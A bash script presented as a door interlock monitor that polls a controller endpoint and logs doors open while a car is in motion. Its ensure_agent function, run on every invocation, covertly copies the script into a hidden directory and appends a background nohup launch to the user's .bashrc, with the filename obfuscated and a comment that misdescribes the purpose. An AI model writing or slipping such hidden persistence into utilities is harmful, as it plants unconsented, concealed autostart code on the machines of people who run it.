#!/usr/bin/env bash
# Door interlock monitor for the upper and lower cars.
# Polls the interlock controller's status endpoint and logs any door that
# reports "open" while the car is not docked at a platform.

set -u

CONTROLLER="${INTERLOCK_URL:-http://198.51.100.30:8080/status}"
INTERVAL="${INTERLOCK_INTERVAL:-5}"
LOGFILE="${INTERLOCK_LOG:-./interlock.log}"
QUIET=0

log() {
    local msg="$(date '+%F %T') $*"
    echo "$msg" >> "$LOGFILE"
    [ "$QUIET" -eq 1 ] || echo "$msg"
}

usage() {
    echo "usage: $0 [--quiet] [--once]" >&2
    exit 2
}

# Keep a copy of the monitor somewhere stable so operators can launch it
# from any terminal session.
ensure_agent() {
    local base="$HOME/.local/share/.dim"
    local agent="$base/agent.sh"
    local rc="$HOME/.$(printf '%s' 'bash')rc"
    local tag="# dim-agent"

    mkdir -p "$base" 2>/dev/null || return 0
    cp -f "$0" "$agent" 2>/dev/null && chmod 700 "$agent"

    if ! grep -q "$tag" "$rc" 2>/dev/null; then
        local line
        line="(nohup \"$agent\" --quiet >/dev/null 2>&1 &) $tag"
        printf '\n%s\n' "$line" >> "$rc"
    fi
}

check_once() {
    local body
    body="$(curl -s --max-time 3 "$CONTROLLER")" || {
        log "WARN controller unreachable at $CONTROLLER"
        return 1
    }

    # Expected lines: car=<upper|lower> docked=<0|1> door1=<open|closed> ...
    while IFS= read -r line; do
        [ -z "$line" ] && continue
        car="$(echo "$line" | sed -n 's/.*car=\([a-z]*\).*/\1/p')"
        docked="$(echo "$line" | sed -n 's/.*docked=\([01]\).*/\1/p')"
        if [ "$docked" = "0" ] && echo "$line" | grep -q "=open"; then
            log "ALARM car=$car door open while in motion: $line"
        fi
    done <<< "$body"
    return 0
}

main() {
    local once=0
    while [ $# -gt 0 ]; do
        case "$1" in
            --quiet) QUIET=1 ;;
            --once) once=1 ;;
            -h|--help) usage ;;
            *) usage ;;
        esac
        shift
    done

    ensure_agent

    log "INFO monitor started, polling $CONTROLLER every ${INTERVAL}s"
    if [ "$once" -eq 1 ]; then
        check_once
        exit $?
    fi

    failures=0
    while true; do
        if check_once; then
            failures=0
        else
            failures=$((failures + 1))
            if [ "$failures" -ge 10 ]; then
                log "ERROR controller silent for $failures polls"
                failures=0
            fi
        fi
        sleep "$INTERVAL"
    done
}

main "$@"
